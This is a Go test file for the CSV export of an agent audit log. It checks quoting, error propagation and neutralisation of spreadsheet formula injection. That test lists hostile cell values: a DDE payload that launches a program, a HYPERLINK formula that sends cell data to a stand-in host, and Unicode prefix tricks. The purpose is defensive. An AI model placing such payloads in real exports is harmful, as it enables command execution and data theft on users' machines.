package audit_test

import (
	"encoding/csv"
	"errors"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/useveto/veto-go/audit"
	"github.com/useveto/veto-go/rules"
)

const header = `"Timestamp","Agent ID","Tool","Result","Reason","Latency (ms)","Parameters"` + "\r\n"

func TestWriteCSV(t *testing.T) {
	var b strings.Builder
	require.NoError(t, audit.WriteCSV(&b, nil))
	require.Equal(t, header, b.String())

	b.Reset()
	require.NoError(t, audit.WriteCSV(&b, []*audit.Record{full(t), {Result: rules.Allowed, Latency: 2000}}))
	require.Equal(t, header+
		`"2025-07-01T07:30:00.123Z","agt_1","send_email","escalated","Tool 'send_email' requires approval by policy ""Ask""","1.235",`+
		`"{""to"":""ann@example.com"",""password"":""[REDACTED]""}"`+"\r\n"+
		`"0001-01-01T00:00:00.000Z","","","allowed","No policy explicitly allows this action (default deny)","0.002","{}"`+"\r\n", b.String())
}

// readAgents writes agents to CSV and reads them back.
func readAgents(t *testing.T, agents []string) []string {
	t.Helper()
	records := make([]*audit.Record, len(agents))
	for i, a := range agents {
		records[i] = &audit.Record{AgentID: a}
	}
	var b strings.Builder
	require.NoError(t, audit.WriteCSV(&b, records))
	rows, err := csv.NewReader(strings.NewReader(b.String())).ReadAll()
	require.NoError(t, err)
	require.Len(t, rows, 1+len(agents))
	read := make([]string, len(agents))
	for i, row := range rows[1:] {
		read[i] = row[1]
	}
	return read
}

func TestWriteCSV_Quotes(t *testing.T) {
	agents := []string{"", "a,b", `a"b`, `"`, "a\nb", "a;b", "a\tb", " a", "ä", "[=]", "a=b", "a-b", "1+1"}
	require.Equal(t, agents, readAgents(t, agents))
}

// A tool name, an agent id or a parameter that a spreadsheet would run is
// shown as text.
func TestAttack_G7_FormulaInjectionInCSV(t *testing.T) {
	attacks := []string{
		`=1+1`, `+1`, `-1`, `@SUM(A1)`, `=cmd|' /C calc'!A0`, "\t=1", "\r=1", "\n=1", "\tx", "\rx", "\nx", " =1", "\u00A0=1", "\u3000=1", "\u200B=1",
		"\uFEFF=1", "\x00=1", "\u202E=1", " \t\u200B =1", "＝1", "＋1", "－1", "＠x", "﹦1", "﹢1", "﹣1", "﹫x", "|x", "%x", "\u22121", "=", "-",
		`=HYPERLINK("http://example.com/"&A1,"x")`,
	}
	for i, got := range readAgents(t, attacks) {
		// encoding/csv reads \r\n as \n; none of these has that.
		require.Equal(t, "'"+attacks[i], got)
	}

	// No separator, of any locale, makes a cell of the middle of a text.
	var b strings.Builder
	r := &audit.Record{AgentID: "a;=1", ToolName: "t,=1", Parameters: audit.Capture(tree(t, `{"a":"\",=1;=1\n=1"}`), nil, nil)}
	require.NoError(t, audit.WriteCSV(&b, []*audit.Record{r}))
	line := strings.TrimSuffix(strings.TrimPrefix(b.String(), header), "\r\n")
	require.NotContains(t, line, "\n")
	for i, cell := range strings.Split(line, `","`) {
		require.NotRegexp(t, `^[=+@-]`, strings.TrimLeft(cell, `"'`), "%d %s", i, line)
	}
}

func TestWriteCSV_ReturnsTheError(t *testing.T) {
	require.ErrorIs(t, audit.WriteCSV(failing{}, nil), errFull)
	require.ErrorIs(t, audit.WriteCSV(failing{}, make1000()), errFull)
}

var errFull = errors.New("disk full")

type failing struct{}

func (failing) Write([]byte) (int, error) { return 0, errFull }

func make1000() []*audit.Record {
	records := make([]*audit.Record, 1000)
	for i := range records {
		records[i] = &audit.Record{AgentID: "a"}
	}
	return records
}
